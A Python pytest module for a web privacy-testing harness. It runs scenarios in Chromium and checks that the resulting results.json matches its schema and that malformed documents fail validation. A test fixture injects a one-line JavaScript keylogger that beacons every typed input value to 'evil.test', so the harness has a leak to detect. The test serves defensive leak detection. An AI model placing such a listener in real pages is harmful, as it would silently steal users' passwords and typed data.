"""results.json against its JSON Schema, ``docs/results.schema.json``: what a real run writes matches it, and a
document with a wrong field does not. (``tests/conftest.py`` checks every other results.json the suite writes.)
"""

from __future__ import annotations

import copy
import io
import json
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from harness.cli import ExitStatus, main
from harness.resources import SHIPPED_SNIPPET

SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"

# One scenario that fills most of a run's entry: typed values (sensitive and plain), a secret the page shows,
# a submit, checkpoints replayed and one after opting out (nothing recorded), page loads and an opt-out.
ACCOUNT = """
name: Sign in, look at the account, opt out
start: https://shop.test/login.html
secrets:
  email: "{canary:email}"
  password: "{canary:password}"
  account_name: {value: "Ada Lovelace", shown: true}
steps:
  - type: {selector: "#email", text: "{email}", delay: 5}
  - type: {selector: "#password", text: "{password}", delay: 5}
  - checkpoint: filled
  - submit: "#login-form"
  - expect: {text: "Welcome back"}
  - checkpoint: account
  - click: "#privacy-link"
  - optout: {selector: "#opt-out"}
  - checkpoint: opted-out
  - leave: close
"""

# A run that cannot be carried out (a step fails), and a file that is not a scenario.
BROKEN = """
name: Submits a field as if it were a form
start: https://shop.test/login.html
steps:
  - submit: "#email"
"""
INVALID = "name: x\nstart: https://shop.test/\nsteps:\n  - clik: '#a'\n"

# The shipped snippet, plus a leak: every value typed goes out by beacon (findings), and a replay still works.
LEAK = "\naddEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value), true);\n"


@dataclass
class Written:
    """A real ``telltale run``: its exit status and the results.json it wrote."""

    status: int
    path: Path
    document: dict[str, Any]

    def run(self, slug: str) -> dict[str, Any]:
        return next(r for r in self.document["runs"] if r["slug"] == slug)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Written:
    """Three scenario files (a full one, a broken one, an invalid one) run in Chromium through ``main``."""
    root = tmp_path_factory.mktemp("schema")
    scenarios = root / "scenarios"
    scenarios.mkdir()
    for name, text in (("account", ACCOUNT), ("broken", BROKEN), ("invalid", INVALID)):
        (scenarios / f"{name}.yaml").write_text(text)
    snippet = root / "leaky.js"
    snippet.write_text(SHIPPED_SNIPPET.read_text(encoding="utf-8") + LEAK)
    out, err = io.StringIO(), io.StringIO()
    status = main(["run", str(scenarios), "--site", str(SITE), "--snippet", str(snippet),
                   "--report", str(root / "report"), "--browser", "chromium"], out, err)
    path = root / "report" / "results.json"
    return Written(status, path, json.loads(path.read_text(encoding="utf-8")))


def test_a_real_run_matches_the_schema(written: Written, results_schema: Callable[[Any], list[str]]) -> None:
    assert results_schema(written.document) == []


def test_the_real_run_fills_what_the_schema_describes(written: Written) -> None:
    # A match proves something only if the document holds the shapes the schema constrains.
    assert written.status == ExitStatus.INVALID_INPUT and len(written.document["invalid"]) == 1
    account, broken = written.run("account"), written.run("broken")
    assert (account["status"], broken["status"]) == ("failed", "error") and broken["error"]
    assert {f["rule"] for f in account["findings"]} >= {"never-sent", "not-before-submit"}
    assert {v["source"] for v in account["values"]} == {"typed", "shown"}
    assert account["timeline"]["optouts"] and account["timeline"]["submits"] and account["timeline"]["pages"]
    assert [c["status"] for c in account["checkpoints"]] == ["passed", "passed", "not-recorded"]
    assert all("diff" in c and c["baseline"] == "new" for c in account["checkpoints"][:2])
    replay = account["replay"]
    assert replay["status"] == "replayed" and replay["heatmaps"] and replay["redaction"] and replay["video"]


def test_the_session_checked_the_file_as_it_was_written(written: Written, results_watch: Any) -> None:
    # The suite-wide check (tests/conftest.py) saw this run through write_results, and found nothing wrong.
    assert results_watch.checked[written.path.resolve()].startswith("tests/test_results_schema.py::")
    assert written.path.resolve() not in results_watch.problems


def _first(items: list[dict[str, Any]], **match: Any) -> dict[str, Any]:
    return next(item for item in items if all(item.get(k) == v for k, v in match.items()))


WRONG: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    # (what is wrong, how, the path the schema names)
    ("an unknown top-level field", lambda d: d.update(extra=1), "$"),
    ("a missing run field", lambda d: d["runs"][0].pop("findings"), "$.runs[0]"),
    ("a status that is not one", lambda d: d["runs"][0].update(status="ok"), "$.runs[0].status"),
    ("an unknown browser", lambda d: d["runs"][0].update(browser="netscape"), "$.runs[0].browser"),
    ("a duration as text", lambda d: d["runs"][0].update(duration_ms="3.2 s"), "$.runs[0].duration_ms"),
    ("a negative count", lambda d: d["runs"][0].update(requests=-1), "$.runs[0].requests"),
    ("a value in clear instead of its fingerprint",
     lambda d: d["runs"][0]["values"][0].update(fingerprint="hunter2"), "$.runs[0].values[0].fingerprint"),
    ("a verdict that is not one",
     lambda d: d["runs"][0]["rules"]["never-sent"].update(verdict="maybe"), "$.runs[0].rules['never-sent'].verdict"),
    ("a rule's verdict missing", lambda d: d["runs"][0]["rules"].pop("opt-out"), "$.runs[0].rules"),
    ("an unknown rule in a finding", lambda d: d["runs"][0]["findings"][0].update(rule="never-ever"),
     "$.runs[0].findings[0].rule"),
    ("a passed checkpoint without its replay frame",
     lambda d: _first(d["runs"][0]["checkpoints"], status="passed").pop("replay"), "$.runs[0].checkpoints[0]"),
    ("a snippet digest that is not sha256", lambda d: d["snippet"].update(sha256="abc"), "$.snippet"),
    ("a start time that is not ISO 8601", lambda d: d.update(started="yesterday"), "$.started"),
    ("a replay status that is not one", lambda d: d["runs"][0]["replay"].update(status="done"), "$.runs[0].replay.status"),
]


@pytest.mark.parametrize(("change", "path"), [(c, p) for _, c, p in WRONG], ids=[w for w, _, _ in WRONG])
def test_a_wrong_field_fails_validation_where_it_is(
    written: Written, results_schema: Callable[[Any], list[str]], change: Callable[[dict[str, Any]], None], path: str
) -> None:
    document = copy.deepcopy(written.document)
    document["runs"].sort(key=lambda run: run["slug"] != "account")  # the full run first
    change(document)
    problems = results_schema(document)
    assert [line for line in problems if line.startswith(f"{path}: ")], problems


def test_the_end_of_session_sweep_checks_reports_written_by_subprocesses(results_watch: Any) -> None:
    # A fresh watch, outside the session's folders (the session's own would fail the session, as it should).
    watch = type(results_watch)()
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder).resolve()
        (root / "report").mkdir()
        (root / "report" / "results.json").write_text(json.dumps({"runs": "none"}))
        (root / "report" / "junit.xml").write_text("<testsuite/>")  # write_results always writes both
        (root / "fixture").mkdir()
        (root / "fixture" / "results.json").write_text("{}")  # hand-made, not a report: left alone
        assert watch.sweep(root) == [root / "report" / "results.json"]
        assert any(line.startswith("$.runs: ") for line in watch.problems[root / "report" / "results.json"])
        assert "(written by a subprocess" in watch.report()
